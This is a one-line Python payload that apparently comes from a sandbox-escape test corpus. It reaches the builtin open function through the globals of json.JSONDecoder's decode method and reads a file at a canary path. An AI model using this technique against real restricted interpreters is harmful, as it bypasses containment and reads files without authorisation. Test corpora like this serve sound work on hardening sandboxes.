# what: takes the globals of a method's function
import json

json.JSONDecoder().decode.__func__.__globals__["__builtins__"]["open"](CANARY_PATH).read()
